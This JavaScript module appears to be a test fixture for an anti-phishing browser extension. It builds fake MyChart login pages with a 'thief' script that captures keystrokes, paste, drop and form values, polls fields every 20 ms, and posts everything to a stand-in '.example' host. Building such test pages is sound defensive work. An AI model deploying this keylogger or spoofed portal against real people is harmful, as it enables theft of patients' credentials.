// What hostile pages are made of: a sign-in page that claims to be MyChart's on a host that is not,
// and a thief in it, who listens to everything and sends it home at once.

/**
 * What the person types. None of its characters stands in what pages report of their own accord, so
 * that each one which comes home was stolen.
 */
export const SECRET = "7QX49KZ2";

/** The host of an attack. The address says nothing: what gives the page away is whose it says it is. */
export function hostOf(id) {
  return `${id}.example`;
}

/**
 * The thief's script, for a page or a frame. `steal(text)` sends a text home, `begun()` tells that
 * the attack proper has begun; from then on counts the second within which a warning must be seen.
 * `won(what)` tells of a success that is no theft, such as a sign of the extension that a page may not have.
 * It listens in the capturing phase at the window, before any other script of the page, and reads
 * all fields every 20 ms.
 */
export function thief(id) {
  return `
(() => {
  const home = "https://${hostOf(id)}/.got";
  const send = (event, text) => fetch(home, { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ event, text, place: location.host || location.href }) }).catch(() => {});
  window.steal = (text, event = "stolen") => { if (text) send(event, String(text)); };
  window.begun = () => send("begun", "");
  window.won = (what) => send("won", what);
  window.listenIn = (target) => {
    const on = (type, read) => target.addEventListener(type, (e) => { try { steal(read(e), type); } catch {} }, true);
    on("keydown", (e) => e.key.length === 1 && e.key);
    on("keypress", (e) => e.key);
    on("keyup", (e) => e.key.length === 1 && e.key);
    on("beforeinput", (e) => e.data ?? e.dataTransfer?.getData("text/plain"));
    on("input", (e) => e.data ?? e.target.value ?? e.target.textContent);
    on("change", (e) => e.target.value);
    on("textInput", (e) => e.data);
    on("compositionupdate", (e) => e.data);
    on("compositionend", (e) => e.data);
    on("paste", (e) => e.clipboardData.getData("text/plain"));
    on("drop", (e) => e.dataTransfer.getData("text/plain"));
    on("submit", (e) => [...new FormData(e.target).values()].join(" "));
  };
  listenIn(window);
  let last = "";
  window.readFields = (root) => [...root.querySelectorAll("input, textarea, [contenteditable]")].map((field) => field.value ?? field.textContent).join(" ");
  setInterval(() => { const all = readFields(document); if (all !== last) steal(last = all, "value"); }, 20);
})();`;
}

/** A script element. */
export function script(code) {
  return `<script>${code}</script>`;
}

/** The sign-in form of the fake pages, the password field in the place where a person's hand goes. */
export const FORM = `<form action="/in" method="post"><label>User name <input id="user" name="user" autocomplete="username"></label>
<label>Password <input id="password" name="password" type="password"></label><button>Sign in</button></form>`;

/**
 * A fake portal. \`head\` comes after the thief in the head, \`form\` stands in place of the form,
 * \`body\` after it, \`attack\` is a script at the end of the body, before which the password field has
 * got the focus.
 */
export function fake(
  id,
  { title = "MyChart - Login Page", head = "", form = FORM, body = "", attack = "", focus = true } = {},
) {
  const focusing = focus ? `document.querySelector("[type=password]")?.focus();` : "";
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${script(thief(id))}
<style>body{font:16px sans-serif;max-width:30rem;margin:2rem auto;padding:0 1rem}label,input,button{display:block;width:100%;margin:.4rem 0;font:inherit}</style>${head}</head>
<body><h1>MyChart</h1>${form}${body}${script(`${focusing}${attack}`)}</body></html>`;
}
